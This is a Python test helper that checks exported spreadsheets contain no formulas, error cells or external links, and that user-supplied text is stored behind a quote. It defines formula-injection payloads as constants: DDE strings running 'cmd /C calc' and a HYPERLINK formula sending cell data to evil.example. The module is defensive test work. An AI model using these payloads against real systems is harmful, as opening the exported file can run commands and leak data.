"""Exported workbooks read as a spreadsheet would: no formula, no error cell, every text inert."""

from __future__ import annotations

import zipfile
from pathlib import Path
from xml.etree import ElementTree

from openpyxl import load_workbook

MAIN_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

#: Texts a hostile user can type into any free-text field; each starts a formula in a spreadsheet.
HOSTILE_DDE = "=cmd|' /C calc'!A0"
HOSTILE_LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE_PLUS = "+SUM(1,2)+cmd|' /C calc'!A0"
HOSTILE_MINUS = "-2+3+cmd|' /C calc'!A0"
HOSTILE_AT = "@SUM(1+9)*cmd|' /C calc'!A0"
#: Not a formula, but a spreadsheet reads it as an error value unless the cell says "string".
ERROR_LOOKALIKE = "#REF!"


def assert_no_formula(path: Path) -> None:
    """No sheet of the workbook holds a formula (``<f>``) or an error cell (``t="e"``)."""
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        sheets = [n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets, names
        assert not any(n.startswith("xl/externalLinks/") for n in names), names
        for name in sheets:
            xml = z.read(name)
            root = ElementTree.fromstring(xml)
            formulas = [el for el in root.iter() if el.tag.rsplit("}", 1)[-1] == "f"]
            assert not formulas, f"{name} holds a formula: {xml.decode()[:2000]}"
            errors = [c.get("r") for c in root.iter(f"{MAIN_NS}c") if c.get("t") == "e"]
            assert not errors, f"{name} holds error cells at {errors}"


def texts(path: Path) -> list[str]:
    """Every text cell of every sheet, as the spreadsheet shows it; each must be typed string."""
    book = load_workbook(path)
    found: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    found.append(cell.value)
    return found


def assert_shown_inert(path: Path, *hostile: str) -> list[str]:
    """The workbook has no formula, and each hostile text is in a cell, behind a quote."""
    assert_no_formula(path)
    cells = texts(path)
    for text in hostile:
        assert any(c == "'" + text or c.startswith("'" + text) for c in cells), (text, cells)
        assert not any(c.startswith(text) for c in cells), (text, cells)
    return cells
